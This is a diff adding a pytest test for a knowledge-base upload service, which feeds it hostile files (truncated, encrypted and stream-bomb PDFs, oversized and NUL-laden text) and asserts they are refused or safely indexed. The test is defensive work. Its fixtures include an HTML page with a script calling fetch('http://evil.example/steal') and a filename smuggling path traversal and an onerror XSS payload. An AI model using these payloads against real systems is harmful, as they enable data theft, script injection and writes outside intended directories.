@@ -199,3 +199,64 @@ def test_the_reader_is_a_separate_light_process(tmp_path):
         ).split()[1]
     )
     assert rss_kb < 150 * 1024
+
+
+def test_a_batch_of_hostile_files_each_gets_a_message_and_the_good_ones_are_indexed(
+    make_services, tmp_path
+):
+    """The issue's list in one upload: every bad file refused in plain words, the good ones
+    (HTML with script and a remote image among them) indexed without the script or the URL."""
+    kb = make_services(parse_timeout_s=20).knowledge
+    pdf = files.write_pdf(tmp_path / "whole.pdf", ["The harbor opened in 1872."] * 3)
+    truncated = tmp_path / "truncated.pdf"
+    truncated.write_bytes(pdf.read_bytes()[: pdf.stat().st_size // 2])
+    broken_xref = tmp_path / "broken-xref.pdf"
+    broken_xref.write_bytes(pdf.read_bytes().replace(b"xref", b"xrfe").replace(b"startxref", b"s"))
+    encrypted = files.write_encrypted_pdf(tmp_path / "locked.pdf", "secret plans")
+    bomb = files.write_pdf_stream_bomb(tmp_path / "balloon.pdf")
+    empty = tmp_path / "empty.txt"
+    empty.write_bytes(b"")
+    huge = tmp_path / "huge.txt"
+    with huge.open("wb") as f:
+        f.truncate(100 * 1024 * 1024)  # 100 MB (sparse: cheap to write)
+    nul = tmp_path / "nul.txt"
+    nul.write_bytes(b"some words\x00\x00\x00 and binary \x00 zeros" * 10)
+    page = tmp_path / "page.html"
+    page.write_text(
+        "<html><body><h1>Lamps</h1><script>fetch('http://evil.example/steal')</script>"
+        "<p>The lamp is green.</p><img src='http://evil.example/pixel.png'></body></html>",
+        encoding="utf-8",
+    )
+    named = good_file(tmp_path, "plain.md")
+    batch = [
+        (truncated, truncated.name),
+        (broken_xref, broken_xref.name),
+        (encrypted, encrypted.name),
+        (bomb, bomb.name),
+        (empty, empty.name),
+        (huge, huge.name),
+        (nul, nul.name),
+        (page, page.name),
+        (named, "../../etc/<img src=x onerror=alert(1)>notes.md"),
+    ]
+    results = kb.ingest_files(OWNER, batch)
+    by_name = dict(zip([name for _, name in batch], results, strict=True))
+    for name in ("truncated.pdf", "locked.pdf", "balloon.pdf", "empty.txt", "huge.txt", "nul.txt"):
+        assert by_name[name].status == "failed", (name, by_name[name])
+        assert_plain(by_name[name].message, tmp_path)
+    assert "password" in by_name["locked.pdf"].message
+    assert "100.0 MB; the limit is 50 MB" in by_name["huge.txt"].message
+    for name, result in by_name.items():
+        print(name, "->", result.describe())
+    # A PDF with a damaged cross-reference table is still readable: pypdf rebuilds it.
+    assert by_name["broken-xref.pdf"].status in ("indexed", "failed")
+    assert by_name["page.html"].status == "indexed"
+    odd = results[-1]
+    assert odd.status == "indexed" and "/" not in odd.file and ".." not in odd.file
+    texts = " ".join(stored_texts(kb))
+    assert "green" in texts and "evil.example" not in texts and "fetch(" not in texts
+    listed = {d.file for d in kb.list_documents(OWNER)}
+    assert listed >= {"page.html", odd.file} and "balloon.pdf" not in listed
+    uploads = kb.uploads_dir.resolve()
+    assert all(p.resolve().is_relative_to(uploads) for p in uploads.rglob("*"))
+    assert not list((tmp_path.parent).glob("**/etc/*notes*"))
